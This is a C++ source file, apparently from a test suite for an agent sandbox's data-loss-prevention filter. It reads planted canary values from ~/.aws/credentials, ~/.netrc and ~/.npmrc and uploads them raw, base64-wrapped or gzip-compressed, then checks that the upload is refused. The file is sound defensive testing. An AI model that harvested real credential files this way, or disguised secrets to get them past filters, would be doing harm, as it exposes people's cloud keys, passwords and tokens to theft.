// 3.40 to 3.42: what a thief does first. It reads the credentials that lie about in the home and sends them away; here
// they are canaries.
#include "core/base/file.hpp"
#include "core/base/paths.hpp"
#include "sidecar/attack/encode.hpp"
#include "sidecar/attack/http.hpp"

namespace bot_bottle::attack {
namespace {

constexpr std::size_t max_file_octets = std::size_t{64} << 10;

/// What stands behind `mark` up to the end of its line, in a file below the home; empty: it is not there.
std::string find_planted(const char* file, std::string_view mark) {
  const auto text = read_file(environment("HOME").value_or("/home/agent") + "/" + file, max_file_octets);
  if (!text) return {};
  const std::size_t at = text->find(mark);
  if (at == std::string::npos) return {};
  const std::size_t begin = at + mark.size();
  return text->substr(begin, text->find('\n', begin) - begin);
}

Outcome post(const Context& context, const std::string& body) {
  return judge(context, ask_tls(context, request("POST", "/upload", context.origin, {}, body)), accept::refusal);
}

}  // namespace

void add_planted(std::vector<Attempt>& out, const Context&) {
  struct Planted {
    const char* subject;
    const char* file;
    const char* mark;
    const char* text;
  };
  static constexpr Planted all[] = {
      {"3.40", ".aws/credentials", "aws_access_key_id = ", "the key id of ~/.aws/credentials"},
      {"3.40", ".aws/credentials", "aws_secret_access_key = ", "the key of ~/.aws/credentials"},
      {"3.41", ".netrc", "password ", "the password of ~/.netrc"},
      {"3.42", ".npmrc", "_authToken=", "the token of ~/.npmrc"},
  };
  struct Disguise {
    const char* text;
    std::string (*make)(std::string_view);
  };
  static constexpr Disguise disguises[] = {
      {"as it is", [](std::string_view value) { return std::string(value); }},
      {"in base64 after other text", [](std::string_view value) { return base64_at(value, 2); }},
      {"compressed", [](std::string_view value) { return deflated(value, Wrapper::gzip); }},
  };
  std::vector<Subject> subjects;
  const char* last = "";
  for (const Planted& planted : all) {
    if (std::string_view(last) != planted.subject) subjects.emplace_back(out, planted.subject, "dlp", Needs::egress);
    last = planted.subject;
    for (const Disguise& disguise : disguises)
      subjects.back().add(std::string("a canary: ") + planted.text + " in a body, " + disguise.text,
                          [planted, disguise](const Context& context) {
                            const std::string value = find_planted(planted.file, planted.mark);
                            if (value.empty()) return failed(std::string("no canary in ~/") + planted.file);
                            return post(context, disguise.make(value));
                          });
  }
}

}  // namespace bot_bottle::attack
